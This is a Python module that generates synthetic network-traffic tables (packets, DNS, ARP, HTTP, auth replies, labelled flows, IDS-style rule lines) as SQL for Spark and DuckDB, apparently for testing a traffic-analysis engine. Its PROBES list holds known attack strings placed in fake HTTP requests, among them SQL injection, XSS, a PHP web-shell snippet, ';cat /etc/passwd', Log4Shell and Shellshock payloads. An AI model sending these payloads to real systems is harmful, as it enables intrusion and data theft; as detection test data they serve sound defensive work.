"""Traffic tables derived from the driver tables, as one SQL text per view for both engines.

Arithmetic is integer only, so both engines derive the same rows. Time is the event time of
``events`` divided by 1000, which puts a few packets into each second.
"""

from __future__ import annotations

import re

from pyspark.sql import DataFrame, SparkSession

from packetloom.sources.capture import spread

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings "
    "pages benchmark labels conversations"
).split()

BASE_US = 1704067200000000  # 2024-01-01


class Spark:
    text, big, binary, div = "STRING", "BIGINT", "BINARY", "div"

    def micros(self, ts):
        return f"timestampdiff(MICROSECOND, TIMESTAMP_NTZ'2024-01-01 00:00:00', {ts})"

    def at(self, us):
        return f"timestampadd(MICROSECOND, {us}, TIMESTAMP_NTZ'2024-01-01 00:00:00')"

    def k(self, props):
        return f"CAST(get_json_object({props}, '$.k') AS BIGINT)"

    def blob(self, text):
        return f"CAST({text} AS BINARY)"

    def char(self, code):
        return f"char({code})"

    def host(self, url):
        return f"regexp_extract({url}, '^https?://([^/]+)', 1)"


class Duck(Spark):
    text, big, binary, div = "VARCHAR", "BIGINT", "BLOB", "//"

    def micros(self, ts):
        return f"(epoch_us({ts}) - {BASE_US})"

    def at(self, us):
        return f"make_timestamp({BASE_US} + {us})"

    def k(self, props):
        return f"CAST(json_extract({props}, '$.k') AS BIGINT)"

    def blob(self, text):
        return f"encode({text})"

    def char(self, code):
        return f"chr({code})"

    def host(self, url):
        return f"regexp_extract({url}, '^https?://([^/]+)', 1)"


SPARK, DUCK = Spark(), Duck()


def packets_ev(d) -> str:
    """One packet per event: TCP with mixed flags, UDP and ICMP between 16 clients and 8 servers."""
    return f"""
    SELECT event_id AS packet_id, {d.at(f'us {d.div} 1000')} AS ts,
           concat('10.0.0.', CAST(user_id % 16 + 1 AS {d.text})) AS src_ip,
           concat('192.168.0.', CAST(k % 8 + 1 AS {d.text})) AS dst_ip,
           CASE event_type WHEN 'view' THEN 17 WHEN 'purchase' THEN 1 ELSE 6 END AS ip_proto,
           CASE event_type WHEN 'click' THEN 2 WHEN 'signup' THEN 16 WHEN 'error' THEN
                (CASE k % 4 WHEN 0 THEN 0 WHEN 1 THEN 1 WHEN 2 THEN 41 ELSE 4 END) END AS tcp_flags,
           CAST(CASE WHEN event_type <> 'purchase' THEN 1024 + event_id % 50000 END AS INT) AS src_port,
           CAST(CASE WHEN event_type = 'purchase' THEN NULL
                WHEN k < 20 THEN 53 WHEN k < 40 THEN 80 WHEN k < 50 THEN 443
                WHEN k < 55 THEN 22 WHEN k < 60 THEN 21 WHEN k < 64 THEN 25
                ELSE (event_id * 7 + k) % 512 + 1 END AS INT) AS dst_port,
           CASE WHEN event_type = 'purchase' THEN 8 END AS icmp_type,
           CASE WHEN event_type = 'purchase' THEN 0 END AS icmp_code,
           CAST(CASE WHEN event_type = 'purchase' THEN k END AS INT) AS icmp_id,
           CAST(40 + (event_id * 31 + k) % 1461 AS INT) AS length,
           CAST(NULL AS INT) AS arp_op
    FROM (SELECT event_id, user_id, event_type, {d.k('props')} AS k, {d.micros('ts')} AS us FROM events) e"""


def conn_ev(d) -> str:
    """Few long-lived connections with handshakes, data, bare ACKs and resets."""
    return f"""
    SELECT packet_id, ts, CASE WHEN back THEN server ELSE client END AS src_ip,
           CASE WHEN back THEN client ELSE server END AS dst_ip,
           CAST(CASE WHEN back THEN 80 ELSE cport END AS INT) AS src_port,
           CAST(CASE WHEN back THEN cport ELSE 80 END AS INT) AS dst_port,
           6 AS ip_proto, tcp_flags, CAST(NULL AS INT) AS icmp_type, CAST(NULL AS INT) AS arp_op,
           CASE WHEN data THEN {d.blob("'x'")} END AS payload
    FROM (SELECT event_id AS packet_id, {d.at(f'us {d.div} 1000')} AS ts,
                 concat('10.0.0.', CAST(user_id % 6 + 1 AS {d.text})) AS client,
                 concat('192.168.0.', CAST(k % 3 + 1 AS {d.text})) AS server,
                 40000 + user_id % 5 AS cport,
                 event_type = 'signup' OR (event_type = 'view' AND k % 5 = 0) AS back,
                 CASE event_type WHEN 'click' THEN 2 WHEN 'signup' THEN 18 WHEN 'error' THEN 16
                      WHEN 'view' THEN (CASE WHEN k % 2 = 0 THEN 16 ELSE 24 END)
                      ELSE (CASE WHEN k % 9 = 0 THEN 4 WHEN k % 9 = 1 THEN 17 ELSE 16 END) END AS tcp_flags,
                 event_type = 'view' AND k % 3 = 0 AS data
          FROM (SELECT event_id, user_id, event_type, {d.k('props')} AS k, {d.micros('ts')} AS us FROM events) e) c"""


def long_ev(d) -> str:
    """Handshakes that are kept open by SYN/ACKs 170 s apart, longer than any slice; every 31st packet is an ACK, every 97th a SYN."""
    return f"""
    SELECT event_id AS packet_id, {d.at('(event_id ' + d.div + ' 4) * 170000000')} AS ts,
           concat('10.0.0.', CAST((CASE WHEN back THEN 50 ELSE 1 END) + event_id % 4 AS {d.text})) AS src_ip,
           concat('10.0.0.', CAST((CASE WHEN back THEN 1 ELSE 50 END) + event_id % 4 AS {d.text})) AS dst_ip,
           CAST(CASE WHEN back THEN 80 ELSE 4000 END AS INT) AS src_port, CAST(CASE WHEN back THEN 4000 ELSE 80 END AS INT) AS dst_port,
           6 AS ip_proto, CAST(CASE WHEN back THEN 18 WHEN event_id % 31 = 0 THEN 16 ELSE 2 END AS INT) AS tcp_flags,
           CAST(NULL AS INT) AS icmp_type, CAST(NULL AS INT) AS arp_op, {d.blob("''")} AS payload
    FROM (SELECT event_id, NOT (event_id % 31 = 0 OR event_id % 97 = 0 OR event_id < 4) AS back FROM events) e"""


def arp_ev(d) -> str:
    return f"""
    SELECT event_id AS packet_id, {d.at(f'us {d.div} 1000')} AS ts,
           CAST(1 + k % 2 AS INT) AS arp_op,
           concat('10.0.0.', CAST(user_id % 16 + 1 AS {d.text})) AS arp_psrc,
           CASE WHEN k % 10 = 1 THEN concat('10.0.0.', CAST(user_id % 16 + 1 AS {d.text}))
                ELSE concat('10.0.0.', CAST(k % 16 + 1 AS {d.text})) END AS arp_pdst,
           concat('aa:bb:cc:00:00:0', CAST((CASE WHEN k < 90 THEN 0 ELSE k % 3 END) AS {d.text})) AS arp_hwsrc
    FROM (SELECT event_id, user_id, {d.k('props')} AS k, {d.micros('ts')} AS us FROM events) e"""


def frag_ev(d) -> str:
    """Fragments of one datagram per order; line numbers repeat, so offsets repeat and overlap."""
    return f"""
    SELECT packet_id, {d.at('(l_orderkey * 20000 + l_linenumber * 1000)')} AS ts,
           concat('10.2.0.', CAST(l_orderkey % 40 + 1 AS {d.text})) AS src_ip, '192.168.0.9' AS dst_ip,
           17 AS ip_proto, CAST(l_orderkey AS INT) AS ip_id,
           CAST((l_linenumber - 1) * 8 AS INT) AS ip_frag,
           CAST(CASE WHEN l_quantity < 2 AND l_linenumber > 1 THEN 0 ELSE l_quantity * 4 END AS INT) AS ip_payload_len,
           l_linenumber < last_line OR l_orderkey % 7 = 0 AS ip_mf
    FROM (SELECT *, max(l_linenumber) OVER (PARTITION BY l_orderkey) AS last_line,
                 l_orderkey * 1000 + row_number() OVER (PARTITION BY l_orderkey
                     ORDER BY l_linenumber, l_partkey, l_suppkey, l_extendedprice) AS packet_id
          FROM lineitem) l"""


def dns_ev(d) -> str:
    """One lookup per page: its host, a hashed label every fifth page, a TXT reply every seventh."""
    return f"""
    SELECT page_id AS packet_id, {d.at(f'page_id * 100000')} AS ts,
           concat('10.3.0.', CAST(page_id % 12 + 1 AS {d.text})) AS src_ip, '8.8.8.8' AS dst_ip,
           17 AS ip_proto, CAST(NULL AS INT) AS tcp_flags,
           CAST(40000 + page_id % 1000 AS INT) AS src_port, CAST(CASE WHEN page_id % 50 = 49 THEN 5353 ELSE 53 END AS INT) AS dst_port,
           CAST(CASE WHEN page_id % 7 = 3 THEN 1 ELSE 0 END AS INT) AS dns_qr,
           CASE WHEN page_id % 5 = 0 THEN concat(md5(url), '.', host)
                WHEN page_id % 11 = 0 THEN concat(md5(url), md5(host), '.', md5(html), '.', host, '.')
                WHEN page_id % 83 = 1 THEN concat('a', {d.char(0)}, 'b.', host)
                ELSE host END AS dns_qname,
           {'array' if d.text == 'STRING' else 'list_value'}(CAST(length(html) % 300 AS INT), CAST(page_id % 90 AS INT)) AS dns_txt_sizes
    FROM (SELECT page_id, url, html, {d.host('url')} AS host FROM pages) p"""


# Fixed request lines and bodies that carry one known attack each, spread over the rows of a table.
PROBES = [
    "/q?id=1' OR 1=1 --",
    "/q?id=1 union all select name from users",
    "/q?id=%2527%20or%201=1",
    "/q?a=sleep(5)&b=waitfor (",
    "/q?x=if(1=1) case when a then b; drop table t",
    "/q?f[$ne]=1&g=/*!50000select*/ -- select cast(a as int)",
    "/q?n=' or 'a'='a&m=extractvalue(1)",
    "/c?u=<script>alert(1)</script>",
    "/c?u=%3Cimg src=x onerror=alert(1)%3E",
    "/c?u=javascript:alert(1)&d=document.cookie",
    "/c?u=<svg onload=alert(1)><iframe src=//e>",
    "/c?u=${7*7}&v={{a[0]}}&w=\\u003c \\x41",
    "/u?f=shell.php.jpg&c=;cat /etc/passwd",
    "/u?f=../../etc&c=<?php system($_GET[1]) ?>",
    "/u?x=rO0AB&y=<!ENTITY a SYSTEM>&z=(|(a=*)(",
    "/u?j=${jndi:ldap://e/a}&s=() { :;};",
    "/u?p=php://input&t=T(java.lang.Runtime)&r={{config}}",
    "/u?n=require('child_process')&e=eval {`id`}&k=Kernel.x",
]


def _probe_case(d, row: str) -> str:
    def literal(text):
        text = text.replace("'", "''") if d.text == "VARCHAR" else text.replace("\\", "\\\\").replace("'", "\\'")
        # Spark substitutes variables in ${...} while parsing, so the two characters stay apart there.
        return "concat('" + text.replace("${", "$', '{") + "')"

    branches = " ".join(f"WHEN {i} THEN {literal(p)}" for i, p in enumerate(PROBES))
    return f"CASE {row} % {len(PROBES) + 6} {branches} ELSE '/index.html' END"


def _crlf(d) -> str:
    return f"concat({d.char(13)}, {d.char(10)})"


def _web(d, key: str, body: str, table: str, method: str, content_type: str, net: str) -> str:
    nl = _crlf(d)
    return f"""
    SELECT packet_id, ts, src_ip, dst_ip, 6 AS ip_proto, 24 AS tcp_flags, src_port, dst_port,
           CAST(NULL AS INT) AS icmp_type, CAST(NULL AS INT) AS arp_op, {d.blob('txt')} AS payload, txt
    FROM (SELECT {key} AS packet_id, {d.at(f'{key} * 1000000')} AS ts,
                 concat('{net}', CAST({key} % 20 + 1 AS {d.text})) AS src_ip, '192.168.0.5' AS dst_ip,
                 CAST(30000 + {key} % 1000 AS INT) AS src_port,
                 CAST(CASE WHEN {key} % 13 = 0 THEN 3000 ELSE 80 END AS INT) AS dst_port,
                 concat('{method} ', {_probe_case(d, key)}, ' HTTP/1.1', {nl}, 'Host: h', CAST({key} % 9 AS {d.text}), {nl},
                        '{content_type}', {nl}, {nl}, {body}) AS txt
          FROM {table}) w"""


def http_ev(d) -> str:
    return _web(d, "page_id", "html", "pages", "GET", "Accept: */*", "10.1.0.")


def post_ev(d) -> str:
    return _web(d, "doc_id", "text", "documents", "POST", "Content-Type: text/plain", "10.4.0.")


def auth_ev(d) -> str:
    """Server replies of five services, most of them refusals, with the words of a conversation."""
    return f"""
    SELECT packet_id, ts, '192.168.0.7' AS src_ip, client AS dst_ip, 6 AS ip_proto, 24 AS tcp_flags,
           CAST(CASE svc WHEN 0 THEN 22 WHEN 1 THEN 21 WHEN 2 THEN 80 WHEN 3 THEN 25 ELSE 3389 END AS INT) AS src_port,
           CAST(50000 + packet_id % 100 AS INT) AS dst_port, {d.blob('reply')} AS payload, reply
    FROM (SELECT event_id AS packet_id, {d.at(f'us {d.div} 1000')} AS ts, svc,
                 concat('10.5.0.', CAST(user_id % 8 + 1 AS {d.text})) AS client,
                 CASE svc
                   WHEN 0 THEN concat('SSH-2.0-x ', CASE WHEN k % 2 = 0 THEN 'v3 user' ELSE 'hello ' END, CAST(k AS {d.text}))
                   WHEN 1 THEN concat(CASE WHEN k % 5 = 0 THEN '230 ' WHEN k % 5 = 1 THEN '421 ' ELSE '530 ' END, 'user', CAST(k AS {d.text}), ' denied')
                   WHEN 2 THEN concat('HTTP/1.1 ', CASE k % 4 WHEN 0 THEN '401 no' WHEN 1 THEN '403 no' WHEN 2 THEN '200 ok Login failed' ELSE '200 ok' END)
                   WHEN 3 THEN concat(CASE k % 3 WHEN 0 THEN '535 ' WHEN 1 THEN '454 ' ELSE '250 ' END, 'auth PLAIN')
                   ELSE concat({d.char(21)}, 'abcde', CASE k % 3 WHEN 0 THEN '(' WHEN 1 THEN '*' ELSE 'z' END, 'rest of it')
                 END AS reply
          FROM (SELECT event_id, user_id, {d.k('props')} AS k, event_id % 5 AS svc, {d.micros('ts')} AS us FROM events) e) a"""


def flows_ev(d) -> str:
    """Flow features as text, with values that do not parse, and a class label."""
    return f"""
    SELECT l_orderkey * 100 + l_linenumber AS flow_key, l_partkey AS part,
           CAST(l_extendedprice AS {d.text}) AS flow_duration,
           CASE WHEN l_partkey % 97 = 0 THEN 'Infinity' WHEN l_partkey % 89 = 0 THEN 'n/a'
                ELSE CAST(l_quantity AS {d.text}) END AS tot_fwd_pkts,
           CAST(l_extendedprice / l_quantity AS {d.text}) AS flow_byts_s,
           CAST(CASE l_linenumber % 4 WHEN 0 THEN 1 WHEN 1 THEN 17 ELSE 6 END AS {d.text}) AS protocol,
           CAST(CASE WHEN l_discount > 0.05 THEN 80 WHEN l_tax > 0.04 THEN 22 ELSE 443 END AS {d.text}) AS dst_port,
           CASE WHEN l_returnflag = 'N' THEN ' BENIGN ' WHEN l_returnflag = 'A' THEN 'DDoS'
                WHEN l_linenumber = 1 THEN 'Bot' WHEN l_linenumber = 2 THEN 'DoS Hulk' ELSE 'PortScan' END AS label
    FROM lineitem"""


def rules_ev(d) -> str:
    """Rule lines in both grammars, one or two per supplier, with comments, blanks and bad lines."""
    s = f"CAST(s_suppkey % 16 + 1 AS {d.text})"
    t = f"CAST(s_suppkey % 8 + 1 AS {d.text})"
    n = f"CAST(s_suppkey AS {d.text})"
    return f"""
    SELECT s_suppkey + 1 AS line, CASE s_suppkey % 20
        WHEN 0 THEN '# comment' WHEN 1 THEN '' WHEN 2 THEN 'TCP broken rule'
        WHEN 3 THEN concat(CAST(s_suppkey AS {d.text}), ': TCP 10.0.0.', {s}, ':any -> 192.168.0.', {t}, ':[1-400] *')
        WHEN 4 THEN concat('UDP 10.0.0.', {s}, ':any -> !192.168.0.', {t}, ':53 *')
        WHEN 5 THEN concat(CAST(s_suppkey AS {d.text}), ': ICMP any:any -> 192.168.0.', {t}, ':any *')
        WHEN 6 THEN concat('FTP 10.0.0.', {s}, ':![1024-20000] -> any:any *')
        WHEN 7 THEN concat(CAST(s_suppkey AS {d.text}), ': IP 10.0.0.', {s}, ':any <> any:!80 *')
        WHEN 8 THEN concat('any any:any -> 192.168.0.', {t}, ':[500-510] * ')
        WHEN 9 THEN concat('alert tcp $HOME_NET any -> 192.168.0.', {t}, ' [1:200] ( msg:"web; probe ', {n}, '"; flags:S; flow:to_client; sid:', {n}, '; )')
        WHEN 10 THEN concat('alert udp 10.0.0.0/28 any -> $EXTERNAL_NET [53,', CAST(s_suppkey % 500 AS {d.text}), '] ( msg:"dns ', {n}, '"; sid:', {n}, '; rev:2; classtype:misc; )')
        WHEN 11 THEN concat('drop icmp any any -> !10.0.0.0/8 any ( itype:8; icode:0; id:', CAST(s_suppkey % 100 AS {d.text}), '; detection_filter:track by_src, count 3, seconds 60; msg:"ping ', {n}, '"; sid:', {n}, '; )')
        WHEN 12 THEN concat('alert tcp any any -> any $HTTP_PORTS ( msg:"ack ', {n}, '"; flow:established,to_server; detection_filter:track by_dst, count 2, seconds 30; sid:', {n}, '; )')
        WHEN 13 THEN concat('alert http ( msg:"uri ', {n}, '"; content:"/c?u=", nocase, depth 40; sid:', {n}, '; )')
        WHEN 14 THEN concat('alert tcp any any -> any !22 ( msg:"body ', {n}, '"; content:!"zzz"; content:"SCRIPT",fast_pattern; nocase; sid:', {n}, '; )')
        WHEN 15 THEN concat('alert tcp any any -> any 80: ( msg:"amp ', {n}, '"; service:http; content:"&"; sid:', {n}, '; )')
        WHEN 16 THEN concat('alert tcp any :1024 -> any any ( msg:"never ', {n}, '"; byte_test:1,>,2,0; sid:', {n}, '; )')
        WHEN 17 THEN concat('alert tcp any any -> any any ( msg:"re ', {n}, '"; pcre:"/se(le)ct/i"; sid:', {n}, '; )')
        WHEN 18 THEN concat('alert tcp $NOPE any -> !$NOPE any ( sid:', {n}, '; )')
        ELSE concat('UDP any:', CAST(1024 + s_suppkey % 300 AS {d.text}), ' -> 192.168.0.', {t}, ':any *') END AS text
    FROM supplier"""


VIEWS = {
    f.__name__: f
    for f in (packets_ev, conn_ev, long_ev, arp_ev, frag_ev, dns_ev, http_ev, post_ev, auth_ev, flows_ev, rules_ev)
}


def load(spark: SparkSession, sf_dir: str, table: str) -> DataFrame:
    """A driver table; the text tables are single row groups, so their one split is spread over the cores."""
    df = spark.read.parquet(f"{sf_dir}/{table}.parquet")
    return spread(df) if table in ("documents", "pages") else df


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    sql = VIEWS[name](SPARK)
    for table in TABLES:
        if re.search(rf"FROM {table}\b", sql):
            load(spark, sf_dir, table).createOrReplaceTempView(table)
    return spark.sql(sql)


def duck(name: str) -> str:
    """The view as a parenthesised DuckDB subquery."""
    return f"({VIEWS[name](DUCK)})"
